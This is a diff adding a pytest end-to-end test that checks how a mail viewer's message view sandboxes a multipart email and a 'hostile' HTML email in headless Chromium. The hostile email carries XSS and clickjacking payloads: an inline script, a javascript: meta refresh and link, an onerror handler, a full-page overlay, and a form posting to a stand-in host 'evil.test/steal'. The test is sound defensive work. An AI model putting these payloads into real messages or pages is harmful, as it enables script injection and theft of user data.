@@ -1,0 +1,150 @@
+"""The message view (web/message.js) in real headless Chromium: tests/e2e/message.mjs (playwright-core
+driving Debian's chromium) against a fresh server fed over SMTP.
+
+Two messages are sent before the script starts: a multipart one (text, HTML with a remote image and an
+inline cid: image, a PDF attachment) and a hostile one (HTML with a script, a form, <meta refresh>, a
+javascript: link and a position:fixed overlay). The script opens each by clicking its row, checks every
+tab, the remote-image switch, the attachment download's bytes, that the hostile HTML ran and changed
+nothing, mark unread and delete, and saves a screenshot of each tab into the test's tmp dir. Every check
+the script makes must be reported as passed.
+
+A missing chromium or node skips with a MISSING TOOL reason, a missing playwright-core fails (as in
+test_web_ui.py)."""
+
+import hashlib
+import json
+import os
+import shutil
+import struct
+import subprocess
+import zlib
+from email.message import EmailMessage
+
+import pytest
+
+from helpers import smtplib_send, token
+
+NODE = shutil.which("node")
+CHROMIUM = shutil.which("chromium")
+HERE = os.path.dirname(os.path.abspath(__file__))
+NPM_DIR = os.path.join(HERE, "npm")
+SCRIPT = os.path.join(os.path.dirname(HERE), "e2e", "message.mjs")
+PLAYWRIGHT_PACKAGE = os.path.join(NPM_DIR, "node_modules", "playwright-core", "package.json")
+
+RUN_TIMEOUT_S = 120.0  # one whole run of the script (each wait in it gives up after 15 s)
+REMOTE_URL = "http://images.remote.test/pixel.gif"
+PDF_NAME = "report.pdf"
+
+EXPECTED_CHECKS = [
+    "message opens from its row", "header shows addresses, size and tags",
+    "tabs are a tablist with six tabs, HTML first", "HTML frame is sandboxed without scripts or same-origin",
+    "HTML frame shows the view URL", "inline cid image loads from its part URL", "remote images counted and blocked",
+    "Show images reloads with remote=1", "remote image loads after Show images", "width presets",
+    "arrow keys move between tabs", "Text tab shows the text part",
+    "Source tab colours header names and shows the raw message", "Source tab links the .eml download",
+    "Headers tab lists the headers", "Headers tab shows the envelope",
+    "Attachments tab lists the PDF with type, size and SHA-256", "Attachments tab lists the inline image with a thumbnail",
+    "thumbnail image decodes", "attachment download returns the exact bytes", "Analysis tab says no analyzers have run",
+    "Mark unread marks it unread", "hostile HTML ran no script", "hostile HTML did not navigate the page",
+    "hostile HTML did not cover the UI", "UI stays clickable beside hostile HTML",
+    "Delete removes the message and closes the pane", "no script errors or failed requests",
+]
+SCREENSHOTS = ["tab-html.png", "tab-text.png", "tab-source.png", "tab-headers.png", "tab-attachments.png",
+               "tab-analysis.png", "hostile.png"]
+
+
+def _png(width=4, height=3):
+    """A valid RGB PNG (so the thumbnail really decodes)."""
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    rows = b"".join(b"\x00" + b"\x20\x60\xc0" * width for _ in range(height))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
+            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
+
+
+def _wire(m):
+    return m.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+
+
+def _rich(tok, pdf):
+    m = EmailMessage()
+    m["From"] = "Carol Sender <carol@example.com>"
+    m["To"] = "Dave <dave@example.org>"
+    m["Cc"] = "erin@example.org"
+    m["Subject"] = f"Rich {tok}"
+    m["X-Tags"] = "billing"
+    m["Message-ID"] = f"<rich-{tok}@mailjar.test>"
+    m.set_content(f"Plain text of {tok}.\n")
+    m.add_alternative(f'<html><body><h1>HTML of {tok}</h1><img src="cid:logo@mailjar.test" alt="logo">'
+                      f'<img src="{REMOTE_URL}" alt="remote"></body></html>', subtype="html")
+    m.get_payload()[1].add_related(_png(), "image", "png", cid="<logo@mailjar.test>")
+    m.add_attachment(pdf, maintype="application", subtype="pdf", filename=PDF_NAME)
+    return _wire(m)
+
+
+def _hostile(tok):
+    m = EmailMessage()
+    m["From"] = "Mallory <mallory@example.com>"
+    m["To"] = "dave@example.org"
+    m["Subject"] = f"Hostile {tok}"
+    m.set_content("hostile\n")
+    m.add_alternative(
+        '<html><head><meta http-equiv="refresh" content="0;url=javascript:window.parent.__pwned=1">'
+        "<style>.cover{position:fixed;top:-2000px;left:-2000px;width:9000px;height:9000px;z-index:2147483647;"
+        "background:rgba(255,0,0,.4)}</style></head><body>"
+        "<script>window.parent.__pwned=1;window.top.location='about:blank'</script>"
+        '<form action="http://evil.test/steal" method="post"><input name="x" value="1"><button>go</button></form>'
+        '<a href="javascript:window.parent.__pwned=1">click</a>'
+        '<img src="x" onerror="window.parent.__pwned=1"><div class="cover">covered</div>'
+        "</body></html>", subtype="html")
+    return _wire(m)
+
+
+def _send(server, raw):
+    with server.smtp() as client:
+        return smtplib_send(client, "carol@example.com", ["dave@example.org"], raw)
+
+
+@pytest.mark.skipif(not CHROMIUM, reason="MISSING TOOL: chromium is not installed (scripts/setup.sh installs "
+                                         "Debian's chromium); CI must install it")
+@pytest.mark.skipif(not NODE, reason="MISSING TOOL: node is not installed (scripts/setup.sh installs nodejs "
+                                     "and npm); CI must install it")
+@pytest.mark.timeout_s(RUN_TIMEOUT_S + 30)
+def test_message_view_tabs_download_and_hostile_html(make_server, tmp_path):
+    if not os.path.isfile(PLAYWRIGHT_PACKAGE):
+        pytest.fail(f"playwright-core is not installed in {NPM_DIR}: run scripts/setup.sh (or `npm ci` there)",
+                    pytrace=False)
+    server = make_server()
+    tok = token()
+    pdf = b"%PDF-1.4\n" + os.urandom(3000) + b"\n%%EOF\n"
+    _send(server, _rich(tok, pdf))
+    _send(server, _hostile(tok))
+
+    shots = tmp_path / "screenshots"
+    shots.mkdir()
+    spec = {"token": tok, "rich": f"Rich {tok}", "hostile": f"Hostile {tok}", "pdfName": PDF_NAME,
+            "pdfSha256": hashlib.sha256(pdf).hexdigest(), "pdfSize": len(pdf), "remoteUrl": REMOTE_URL}
+    url = f"http://127.0.0.1:{server.http_port}/"
+    try:
+        proc = subprocess.run(["node", SCRIPT, url, json.dumps(spec), str(shots), NPM_DIR], cwd=NPM_DIR,
+                              capture_output=True, stdin=subprocess.DEVNULL, text=True, timeout=RUN_TIMEOUT_S,
+                              env={**os.environ, "MAILJAR_CHROMIUM": CHROMIUM})
+    except subprocess.TimeoutExpired as e:
+        pytest.fail(f"the browser script ran longer than {RUN_TIMEOUT_S}s; output: {e.stdout}")
+    passed, errors = [], []
+    for line in proc.stdout.splitlines():
+        try:
+            record = json.loads(line)
+        except ValueError:
+            continue  # node or chromium chatter
+        if record.get("check") and record.get("ok"):
+            passed.append(record["check"])
+        elif "error" in record:
+            errors.append(record["error"])
+    stderr = proc.stderr[-4000:]
+    assert not errors, f"browser script failed: {errors}\npassed: {passed}\nstderr: {stderr}"
+    assert proc.returncode == 0, f"browser script exited {proc.returncode}\nstderr: {stderr}"
+    assert passed == EXPECTED_CHECKS
+    for name in SCREENSHOTS:
+        shot = shots / name
+        assert shot.is_file() and shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", f"no screenshot {shot}"
